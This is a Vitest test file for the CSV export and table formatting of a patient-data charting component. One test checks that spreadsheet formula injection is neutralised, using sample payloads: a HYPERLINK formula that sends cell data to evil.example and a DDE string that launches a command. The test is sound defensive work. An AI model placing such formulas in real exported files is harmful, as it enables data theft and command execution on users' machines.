import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { formatTableCell, toCsv, toFileName } from "../../components/charts/table-data";

describe("chart data as CSV", () => {
  it("writes a header and quotes what needs quoting; null is an empty cell", () => {
    const csv = toCsv({ columns: ["Site", "Patients", "Note"], rows: [["St Brigid's, \"B\"", 12, null], ["01", "<5", "a\nb"]] });
    expect(Papa.parse(csv, { header: false }).data).toEqual([
      ["Site", "Patients", "Note"],
      ["St Brigid's, \"B\"", "12", ""],
      ["01", "<5", "a\nb"],
    ]);
  });

  it("neutralises a cell a spreadsheet would run as a formula, and keeps negative numbers (issue 15 §8)", () => {
    const siteName = '=HYPERLINK("http://evil.example/?x="&B2,"Open")';
    const csv = toCsv({ columns: ["Site", "Change", "Note"], rows: [[siteName, -3, "-0.42"], ["@SUM(A1)", -12.5, "+cmd|' /C calc'!A0"]] });
    expect(Papa.parse(csv, { header: false }).data).toEqual([
      ["Site", "Change", "Note"],
      [`'${siteName}`, "-3", "-0.42"],
      ["'@SUM(A1)", "-12.5", "'+cmd|' /C calc'!A0"],
    ]);
  });

  it("names files after the chart title", () => {
    expect(toFileName("Patients per cohort")).toBe("patients-per-cohort");
    expect(toFileName("HER2 category: first → last test")).toBe("her2-category-first-last-test");
    expect(toFileName("   ")).toBe("chart");
  });

  it("prints years as 2012 and counts as 1,234 in the on-screen table (issue 16 §5)", () => {
    expect(formatTableCell(2012, "Year of diagnosis")).toBe("2012");
    expect(formatTableCell(2012, "Year")).toBe("2012");
    expect(formatTableCell(1234, "Patients")).toBe("1,234");
    expect(formatTableCell(0.12345, "Survival")).toBe("0.1235");
    expect(formatTableCell(null, "Year")).toBe("");
    expect(formatTableCell("<5", "Patients")).toBe("<5");
  });
});

describe("the CSV export's caption row (issue 16 §19)", () => {
  it("puts the filters, rule and date first as a comment row, on one line", () => {
    const csv = toCsv({ columns: ["Cohort", "Patients"], rows: [["HER2-low", 12]] }, "Cohort rule: Primary tumour; sites: 01\nexported 2026-12-03");
    expect(csv.split("\n")).toEqual(["# Cohort rule: Primary tumour; sites: 01 exported 2026-12-03", "Cohort,Patients", "HER2-low,12"]);
  });
});
